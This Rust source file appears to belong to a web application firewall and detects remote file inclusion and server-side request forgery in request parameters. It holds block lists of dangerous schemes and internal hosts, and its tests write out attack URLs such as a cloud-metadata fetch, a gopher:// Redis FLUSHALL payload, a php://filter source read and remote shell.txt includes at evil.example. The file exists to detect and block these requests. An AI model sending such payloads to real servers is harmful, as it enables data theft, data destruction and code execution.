//! Family 931: remote file inclusion and server-side request forgery:
//! values that point the server at another server, or at itself.

use super::Value;
use crate::request::Location;
use crate::score::{Finding, Severity, fragment};

/// Schemes a web parameter has no business carrying.
const DANGEROUS_SCHEMES: &[&str] = &[
    "file:",
    "gopher:",
    "dict:",
    "php:",
    "expect:",
    "phar:",
    "zip:",
    "jar:",
    "ldap:",
    "tftp:",
    "data:text/html",
    "data:application",
];

/// Hosts that reach inside: cloud metadata, loopback.
const INTERNAL_HOSTS: &[&str] =
    &["169.254.169.254", "metadata.google.internal", "100.100.100.200", "localhost", "127.0.0.1", "[::1]", "0.0.0.0"];

/// Parameter names that typically feed an include or a fetch.
const INCLUDE_NAMES: &[&str] = &[
    "include", "inc", "file", "path", "page", "template", "dir", "url", "uri", "src", "load", "module", "conf",
    "config",
];

fn finding(check: &'static str, paranoia: u8, severity: Severity, v: &Value<'_>, what: &str) -> Finding {
    Finding { family: 931, check, paranoia, severity, location: v.field.location.owned(), fragment: fragment(what) }
}

/// The host of the absolute URL starting at the beginning of `s`.
fn url_host(s: &str) -> Option<&str> {
    let rest = ["http://", "https://", "ftp://", "ftps://"].iter().find_map(|p| s.strip_prefix(p))?;
    let authority = rest.split(['/', '?', '#', '"', '\'', '<', ' ']).next().unwrap_or_default();
    let host = authority.rsplit('@').next().unwrap_or_default();
    if let Some(v6) = host.strip_prefix('[') {
        return v6.split(']').next().filter(|h| !h.is_empty());
    }
    // Two or more colons: an IPv6 address written without brackets.
    if host.matches(':').count() >= 2 {
        return Some(host);
    }
    Some(host.split(':').next().unwrap_or(host)).filter(|h| !h.is_empty())
}

fn is_ip(host: &str) -> bool {
    let parts: Vec<&str> = host.split('.').collect();
    let v4 = parts.len() == 4
        && parts.iter().all(|p| !p.is_empty() && p.len() <= 3 && p.bytes().all(|b| b.is_ascii_digit()));
    let v6 = host.contains(':') && host.bytes().all(|b| b.is_ascii_hexdigit() || b == b':' || b == b'.');
    // A whole number or hex number as host is an IPv4 address in disguise.
    let numeric = host.len() > 6 && (host.bytes().all(|b| b.is_ascii_digit()) || host.starts_with("0x"));
    v4 || v6 || numeric
}

/// Every absolute URL in `s` (inside XML, JSON text, or as the value).
fn urls(s: &str) -> impl Iterator<Item = &str> {
    s.match_indices("://").filter_map(move |(at, _)| {
        let start =
            s[..at].char_indices().rev().find(|(_, c)| !c.is_ascii_alphanumeric()).map_or(0, |(i, c)| i + c.len_utf8());
        let scheme = &s[start..at];
        ["http", "https", "ftp", "ftps"].contains(&scheme).then(|| &s[start..])
    })
}

/// Whether a parameter name reads like an include or fetch target:
/// any of its words (split at `_`, `[`, `]`, `.`, `-`) is such a word.
fn include_like(name: &str) -> bool {
    name.to_ascii_lowercase().split(|c: char| !c.is_ascii_alphanumeric()).any(|w| INCLUDE_NAMES.contains(&w))
}

pub fn check(values: &[Value<'_>], out: &mut Vec<Finding>) {
    for v in values {
        let name = match &v.field.location {
            Location::Query(n) | Location::Body(n) | Location::Cookie(n) => Some(n.as_ref()),
            Location::BodyRaw => Some(""),
            _ => None,
        };
        let Some(name) = name else { continue };
        let s = v.folded.trim();
        for url in urls(s) {
            let Some(host) = url_host(url) else { continue };
            if is_ip(host) {
                out.push(finding("rfi-ip-host", 1, Severity::Critical, v, url));
            } else if INTERNAL_HOSTS.contains(&host) {
                out.push(finding("ssrf-internal-host", 1, Severity::Critical, v, url));
            } else if url == s && include_like(name) {
                out.push(finding("rfi-include-parameter", 1, Severity::Critical, v, url));
            } else if url == s {
                out.push(finding("rfi-off-site-url", 2, Severity::Critical, v, url));
            }
        }
        // `http?`, `file?`, `https://x?`: a trailing `?` turns what an
        // include appends into a query string.
        let scheme_first = ["file", "ftp", "http"].iter().any(|p| s.starts_with(p));
        if scheme_first && s.ends_with('?') && !s.contains(' ') {
            out.push(finding("rfi-trailing-question-mark", 1, Severity::Critical, v, s));
        }
        if let Some(scheme) = DANGEROUS_SCHEMES.iter().find(|p| s.starts_with(*p)) {
            out.push(finding("ssrf-scheme", 1, Severity::Critical, v, scheme));
        }
    }
}

#[cfg(test)]
mod tests {
    use crate::Request;
    use crate::score::inspect;

    fn blocked(target: &str) -> bool {
        inspect(&Request::from_parts("GET", target, crate::request::NO_HEADERS, b""), 1, 5).blocked
    }

    #[test]
    fn urls_to_ip_hosts_internal_hosts_and_odd_schemes_are_caught() {
        for attack in [
            "/?include=http://192.168.1.5/shell.txt",
            "/?page=https://evil.example/x.txt?",
            "/?file=http://evil.example/x.txt",
            "/?img=http://169.254.169.254/latest/meta-data/",
            "/?doc=gopher://127.0.0.1:6379/_FLUSHALL",
            "/?f=php://filter/convert.base64-encode/resource=index.php",
            "/?src=https://[2001:db8::1]/x.php",
            "/?_CONF[path]=https://foo.example",
            "/?x=https?",
        ] {
            assert!(blocked(attack), "{attack}");
        }
    }

    #[test]
    fn ordinary_links_pass_at_paranoia_one() {
        for benign in ["/?return_to=/checkout", "/?ref=https://news.example/best-coffee", "/?q=http"] {
            assert!(!blocked(benign), "{benign}");
        }
    }
}
